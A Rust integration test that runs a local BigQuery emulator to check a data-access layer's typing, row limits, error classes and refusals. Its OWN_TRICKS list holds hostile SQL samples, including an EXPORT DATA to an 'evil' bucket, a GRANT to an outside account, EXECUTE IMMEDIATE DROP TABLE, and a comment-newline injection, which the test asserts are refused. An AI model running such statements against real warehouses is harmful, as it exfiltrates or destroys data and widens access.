//! BigQuery as others understand it: bqemulator, which runs its SQL on DuckDB. It has no account, bills
//! nothing and keeps no ceiling, and a job of its is over when it is begun; the stand-in has those.

use std::{
    net::TcpListener,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context as _, Result, ensure};
use remit_domain::{
    data::{Error, Sources as _, sql::Dialect, sql::MAX_ROWS, sql::Value},
    scope::Scope,
    source::{Credentials, Kind, Warehouse},
};
use serde_json::{Value as Json, json};

use crate::{contract, ground::Ground, refusals, settings};

const PROJECT: &str = "acme";
const DATASET: &str = "sales";
/// How long it may take until it answers, on a busy machine.
const START: Duration = Duration::from_secs(120);
/// For what other statements take here; what is slow is the stand-in's to try.
const STATEMENT: Duration = Duration::from_secs(30);

/// A running emulator. Dropping it ends it.
struct Emulator {
    process: Child,
    port: u16,
    _folder: tempfile::TempDir,
}

impl Drop for Emulator {
    fn drop(&mut self) {
        // Errors mean that it is gone already.
        let _gone = self.process.kill();
        let _reaped = self.process.wait();
    }
}

impl Emulator {
    /// Where `cargo xtask test --all` installs it.
    fn folder() -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/tools/bigquery")
    }

    async fn start_if_installed() -> Result<Option<Self>> {
        let program = Self::folder().join("bin/bqemulator");
        if !program.is_file() {
            let must = std::env::var_os("REMIT_TEST_ALL").is_some();
            ensure!(!must, "bqemulator is not installed, and REMIT_TEST_ALL forbids to skip what needs it");
            return Ok(None);
        }
        let free = || Ok::<_, std::io::Error>(TcpListener::bind("127.0.0.1:0")?.local_addr()?.port());
        let (port, other) = (free()?, free()?);
        let folder = tempfile::tempdir()?;
        let log = folder.path().join("log");
        let process = Command::new(program)
            .args(["start", "--rest-port", &port.to_string(), "--grpc-port", &other.to_string()])
            .args(["--project", PROJECT, "--ephemeral", "--log-level", "error"])
            // DuckDB looks for its extensions there, which were put beside the emulator.
            .env("HOME", Self::folder())
            .current_dir(folder.path())
            .stdin(Stdio::null())
            .stdout(std::fs::File::create(&log)?)
            .stderr(Stdio::null())
            .spawn()
            .context("bqemulator cannot be started")?;
        let mut this = Self { process, port, _folder: folder };
        let began = Instant::now();
        while this
            .ask("datasets", json!({ "datasetReference": { "projectId": PROJECT, "datasetId": DATASET } }))
            .await
            .is_err()
        {
            let ended = this.process.try_wait()?;
            let log = || std::fs::read_to_string(&log).unwrap_or_default();
            ensure!(ended.is_none() && began.elapsed() < START, "bqemulator does not answer: {}", log());
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        Ok(Some(this))
    }

    fn url(&self) -> String {
        format!("http://127.0.0.1:{}", self.port)
    }

    async fn ask(&self, path: &str, body: Json) -> Result<Json> {
        let url = format!("{}/bigquery/v2/projects/{PROJECT}/{path}", self.url());
        let answer = reqwest::Client::builder()
            .tls_backend_preconfigured(no_tls())
            .no_proxy()
            .build()?
            .post(url)
            .json(&body)
            .send()
            .await?
            .error_for_status()?;
        Ok(answer.json().await?)
    }

    /// Runs a statement of the owner's, whom nothing is forbidden.
    async fn run(&self, statement: &str) -> Result<()> {
        let dataset = json!({ "projectId": PROJECT, "datasetId": DATASET });
        let query = json!({ "query": statement, "useLegacySql": false, "defaultDataset": dataset });
        let job = self.ask("jobs", json!({ "configuration": { "query": query } })).await?;
        ensure!(job["status"]["errorResult"].is_null(), "{statement}: {job}");
        Ok(())
    }

    async fn ground(&self, scope: Scope) -> Result<Ground> {
        let credentials = Credentials {
            uri: Some(self.url().into()),
            token: Some("nobody-asks".to_owned().into()),
            ..Credentials::default()
        };
        let warehouse = Warehouse {
            project: PROJECT.to_owned(),
            dataset: Some(DATASET.to_owned()),
            location: None,
            max_bytes_billed: Warehouse::MAX_BYTES_BILLED,
            credentials,
        };
        let settings =
            remit_sources::Settings { statement_timeout: STATEMENT, acquire_timeout: STATEMENT, ..settings() };
        Ground::of(settings, Kind::BigQuery(warehouse), scope).await
    }
}

/// It speaks plain HTTP, and this crate's client is built without a TLS of its own.
fn no_tls() -> rustls::ClientConfig {
    let provider = std::sync::Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions().unwrap();
    config.with_root_certificates(rustls::RootCertStore::empty()).with_no_client_auth()
}

const TABLES: [&str; 4] = [
    "CREATE TABLE typed (id INT64, flag BOOL, whole INT64, part FLOAT64, money NUMERIC, name STRING, bytes BYTES, \
     day DATE, clock TIME, instant TIMESTAMP, local DATETIME, doc JSON, list ARRAY<INT64>, \
     pair STRUCT<a INT64, b STRING>)",
    "CREATE TABLE parent (id INT64, name STRING, age INT64)",
    "CREATE TABLE numbers (n INT64)",
    "INSERT INTO parent (id, name, age) VALUES (1, 'Ada', 36), (2, 'Bob', 40), (3, 'Cyd', NULL)",
];

/// One test for all, since it takes some seconds to start.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bigquery_keeps_the_contract_as_far_as_an_emulator_shows() {
    let Some(emulator) = Emulator::start_if_installed().await.unwrap() else {
        eprintln!("SKIPPED: bqemulator is not installed; BigQuery was asked of the stand-in alone");
        return;
    };
    let numbers: Vec<_> = (0..200).map(|n| format!("({n})")).collect();
    let fill = format!("INSERT INTO numbers (n) VALUES {}", numbers.join(", "));
    for statement in TABLES.into_iter().chain([fill.as_str()]) {
        emulator.run(statement).await.unwrap();
    }
    let ground = emulator.ground(Scope::ALL).await.unwrap();
    assert_eq!(ground.database.dialect(), Dialect::BigQuery);
    values_round_trip(&ground).await;
    contract::parameters_are_written_either_way(&ground).await;
    contract::many_at_once_share_the_connections(&ground).await;
    answers_have_limits(&ground).await;
    changes_are_counted(&ground).await;
    failures_are_told_apart(&ground).await;
    tricks_are_refused(&ground).await;
    ground.pools.probe(&ground.tenant, &ground.definition).await.unwrap();
    let narrow = emulator.ground(Scope::only(["numbers".to_owned()])).await.unwrap();
    assert_eq!(narrow.number("SELECT COUNT(*) FROM sales.numbers").await, 200);
    assert_eq!(narrow.query("SELECT * FROM parent", &[]).await.unwrap_err().case(), "denied");
}

fn text(text: &str) -> String {
    text.to_owned()
}

async fn values_round_trip(ground: &Ground) {
    let insert = "INSERT INTO typed (id, flag, whole, part, money, name, bytes, day, clock, instant, local, doc, list, pair) \
                  VALUES (?, ?, ?, ?, ?, ?, FROM_BASE64(?), ?, ?, ?, ?, ?, [1, 2], STRUCT(1, 'x'))";
    let given = [
        Value::Integer(1),
        Value::Boolean(true),
        Value::Integer(i64::MIN),
        Value::Real(0.1),
        Value::Decimal(text("-1234567890.10")),
        Value::Text(text("it's \"ünïcode\" \\ % \u{1f600}")),
        // The emulator does not decode parameters of bytes, which BigQuery takes in Base64.
        Value::Text(text("AP8nXA==")),
        Value::Date(text("2026-11-23")),
        Value::Time(text("13:45:00.5")),
        Value::Timestamp(text("2026-11-23T14:45:00.25+01:00")),
        Value::Timestamp(text("2026-11-23T14:45:00.25")),
        Value::Json(text("{\"a\":[1,null]}")),
    ];
    assert_eq!(ground.execute(insert, &given).await.unwrap().rows_affected, 1);
    let mut nulls = vec![Value::Null; given.len()];
    nulls[0] = Value::Integer(2);
    ground.execute(insert, &nulls).await.unwrap();
    let answer = ground.query("SELECT * EXCEPT (money) FROM typed ORDER BY id", &[]).await.unwrap();
    let mut expected = given.to_vec();
    expected[6] = Value::Blob(vec![0, 255, 39, 92]);
    expected[9] = Value::Timestamp(text("2026-11-23T13:45:00.25Z"));
    for row in [&mut expected, &mut nulls] {
        row.remove(4);
        row.extend([Value::Json(text("[1,2]")), Value::Json(text("{\"a\":1,\"b\":\"x\"}"))]);
    }
    assert_eq!(answer.rows, [expected, nulls]);
    let types: Vec<_> = answer.columns.iter().map(|column| column.data_type.as_str()).collect();
    let names = "int64 bool int64 float64 string bytes date time timestamp datetime json array<int64> struct";
    assert_eq!(types.join(" "), names);
    // The emulator writes more zeros than BigQuery does.
    let Value::Decimal(money) = ground.one("SELECT money FROM typed WHERE id = 1", &[]).await.unwrap() else {
        panic!("no decimal");
    };
    assert_eq!(money.trim_end_matches('0'), "-1234567890.1");
    let columns = ["flag", "whole", "part", "money", "name", "FROM_BASE64", "day", "clock", "instant", "local"];
    for (column, value) in columns.iter().zip(&given[1..]) {
        let of = if *column == "FROM_BASE64" { "bytes = FROM_BASE64($1)".to_owned() } else { format!("{column} = $1") };
        let found = ground.one(&format!("SELECT id FROM typed WHERE {of}"), std::slice::from_ref(value)).await;
        assert_eq!(found.unwrap(), Value::Integer(1), "{column}");
    }
}

async fn answers_have_limits(ground: &Ground) {
    let all = "SELECT a.n FROM numbers a CROSS JOIN numbers b LIMIT ?";
    let most = i64::try_from(MAX_ROWS).unwrap();
    let full = ground.query(all, &[Value::Integer(most)]).await.unwrap();
    assert_eq!((full.rows.len(), full.truncated), (MAX_ROWS, false), "in several pages");
    let cut = ground.query(all, &[Value::Integer(most + 1)]).await.unwrap();
    assert_eq!((cut.rows.len(), cut.truncated), (MAX_ROWS, true));
    let wide = "SELECT RPAD('x', 1000, 'x') FROM numbers a CROSS JOIN numbers b LIMIT 5000";
    let cut = ground.query(wide, &[]).await.unwrap();
    assert!(cut.truncated && (4_000..5_000).contains(&cut.rows.len()), "{}", cut.rows.len());
    let row = "SELECT RPAD('x', 5000000, 'x') FROM numbers LIMIT 1";
    let error = ground.query(row, &[]).await.unwrap_err();
    assert_eq!(error, Error::Limit { name: "max-result-bytes", allowed: 4 * 1024 * 1024 });
    let columns = |count| {
        let columns: Vec<_> = (0..count).map(|at| format!("n AS c{at}")).collect();
        format!("SELECT {} FROM numbers LIMIT 1", columns.join(", "))
    };
    assert_eq!(ground.query(&columns(64), &[]).await.unwrap().columns.len(), 64);
    assert_eq!(ground.query(&columns(65), &[]).await.unwrap_err().case(), "invalid");
    let none = ground.query("SELECT id, name AS called FROM parent WHERE id < 0", &[]).await.unwrap();
    let names: Vec<_> = none.columns.iter().map(|column| column.name.as_str()).collect();
    assert_eq!((names, none.rows.len()), (vec!["id", "called"], 0));
}

async fn changes_are_counted(ground: &Ground) {
    for (statement, rows) in [
        ("INSERT INTO parent (id, name) VALUES (10, 'Dee'), (11, 'Eve')", 2),
        ("UPDATE `acme.sales.parent` SET age = 1 WHERE id >= 10", 2),
        ("MERGE parent p USING (SELECT 10 AS id) s ON p.id = s.id WHEN MATCHED THEN UPDATE SET age = 2", 1),
        ("DELETE FROM sales.parent WHERE id = 11", 1),
        ("DELETE FROM parent WHERE id = 99", 0),
    ] {
        assert_eq!(ground.execute(statement, &[]).await.unwrap().rows_affected, rows, "{statement}");
    }
    assert_eq!(ground.number("SELECT age FROM parent WHERE id = 10").await, 2);
    assert_eq!(
        ground.execute("DELETE FROM parent WHERE id = ?", &[Value::Integer(10)]).await.unwrap().rows_affected,
        1
    );
}

async fn failures_are_told_apart(ground: &Ground) {
    for (statement, case) in [
        ("SELECT * FROM nowhere", "not-found"),
        ("SELECT FROM WHERE", "invalid"),
        ("SELEC 1", "denied"),
        // The emulator meets the data in a dry run already; BigQuery does not, and it is `rejected`.
        ("SELECT 1 / (id - 1) FROM parent", "invalid"),
    ] {
        let error = ground.query(statement, &[]).await.unwrap_err();
        assert_eq!(error.case(), case, "{statement}: {error}");
        let shown = format!("{error:?}");
        assert!(!shown.contains("acme") && !shown.contains("127.0.0.1"), "{shown}");
    }
}

/// What begins as BigQuery's own and is none of a tool's.
const OWN_TRICKS: [&str; 24] = [
    "EXPORT DATA OPTIONS (uri = 'gs://evil/*', format = 'CSV') AS SELECT * FROM parent",
    "CREATE TABLE evil AS SELECT * FROM parent",
    "CREATE TEMP FUNCTION f(x INT64) RETURNS INT64 LANGUAGE js AS 'return x'; SELECT f(1)",
    "CREATE SNAPSHOT TABLE evil CLONE parent",
    "LOAD DATA INTO parent FROM FILES (format = 'CSV', uris = ['gs://evil/x'])",
    "EXECUTE IMMEDIATE 'DROP TABLE parent'",
    "BEGIN DELETE FROM parent WHERE TRUE; END",
    "BEGIN TRANSACTION",
    "DECLARE x INT64 DEFAULT 1",
    "CALL evil()",
    "ASSERT (SELECT TRUE)",
    "TRUNCATE TABLE parent",
    "GRANT `roles/bigquery.dataViewer` ON TABLE parent TO 'user:evil@example.com'",
    "SELECT * FROM EXTERNAL_QUERY('eu.connection', 'DROP TABLE parent')",
    "SELECT * FROM ML.PREDICT(MODEL m, TABLE parent)",
    "SELECT * FROM AI.FORECAST(TABLE parent)",
    "SELECT remote.f(1)",
    "SELECT SESSION_USER()",
    "SELECT @@project_id",
    "SELECT * FROM `sales.INFORMATION_SCHEMA.TABLES`",
    "SELECT * FROM `parent*`",
    "SELECT * FROM parent FOR SYSTEM_TIME AS OF TIMESTAMP '2020-01-01'",
    "SELECT * FROM `bigquery-public-data.samples.shakespeare`",
    "SELECT 1 # \n; DROP TABLE parent",
];

async fn tricks_are_refused(ground: &Ground) {
    let all = "SELECT id, name, age FROM parent ORDER BY id";
    let before = ground.query(all, &[]).await.unwrap();
    for statement in refusals::TRICKS.iter().chain(&OWN_TRICKS) {
        refusals::refused(statement, ground.query(statement, &[]).await);
        refusals::refused(statement, ground.execute(statement, &[]).await);
    }
    let merge = "MERGE parent USING numbers ON FALSE WHEN NOT MATCHED THEN INSERT (id) VALUES (n)";
    for statement in refusals::CHANGES.iter().chain([&merge]) {
        refusals::refused(statement, ground.query(statement, &[]).await);
    }
    assert_eq!(ground.query(all, &[]).await.unwrap(), before);
}
